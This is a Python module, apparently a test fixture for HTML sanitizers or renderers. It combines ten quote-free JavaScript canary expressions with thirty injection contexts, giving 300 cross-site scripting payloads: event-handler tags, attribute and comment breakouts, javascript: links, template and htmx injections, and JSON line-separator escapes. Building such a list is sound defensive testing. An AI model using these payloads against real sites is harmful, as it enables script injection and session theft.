"""Three hundred ways to try to run a script: what it would run, by where it would have to stand.

An `ACT` sets the canary; a `PLACE` tries to get out of, or to be taken for, one kind of context.
Some write the act in an attribute or an address, so it has no quotes and no blanks of its own.
"""

CANARY = "globalThis.ran=1"

#: Ways to say the canary. All are one JavaScript expression without quotes or blanks.
ACTS = (
    CANARY,
    "globalThis[`ran`]=1",
    "self[`r`+`an`]=1",
    "Reflect.set(self,`ran`,1)",
    "Function(`ran=1`)()",
    "[1].map(()=>self.ran=1)",
    "setTimeout(()=>self.ran=1)",
    "alert(self.ran=1)",
    "\\u0073elf.ran=1",
    "top.ran=1",
)

#: Where it could stand: {} is the act.
PLACES = (
    # elements that run by themselves
    "<script>{}</script>",
    "<SCRIPT type=module>{}</SCRIPT>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate attributeName=x dur=1s onbegin={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<iframe srcdoc='<script>parent.eval(`{}`)</script>'></iframe>",
    "<style onload={}>*{{}}</style>",
    # out of an attribute, a text area, a title, a comment, a data block
    "\"><img src=x onerror={}>",
    "'><img src=x onerror={}>",
    "\" autofocus onfocus={} x=\"",
    "' autofocus onfocus={} x='",
    "</textarea><img src=x onerror={}>",
    "</title><script>{}</script>",
    "--><script>{}</script><!--",
    "</script><script>{}</script>",
    "</template><img src=x onerror={}>",
    # addresses, also as Markdown writes them
    "javascript:{}",
    "[x](javascript:{})",
    "![x](x\" onerror=\"{})",
    "<javascript:{}>",
    # languages of templates, attributes that htmx reads, names of the page's own things
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "<a hx-on:click={} hx-trigger=load data-menu>x</a>",
    "<div hx-get=/ hx-trigger='load[{}]' hx-vals='js:{{a:{}}}'>x</div>",
    "<form id=page><input name=textContent value={}></form>",
    # strings of JSON and of scripts, and letters that end a line in one of them
    "\";{};//\u2028</script>\u2029';{};",
)  # fmt: skip

PAYLOADS = [place.replace("{}", act) if "{{" not in place else place.format(*[act] * 2)
            for place in PLACES for act in ACTS]  # fmt: skip
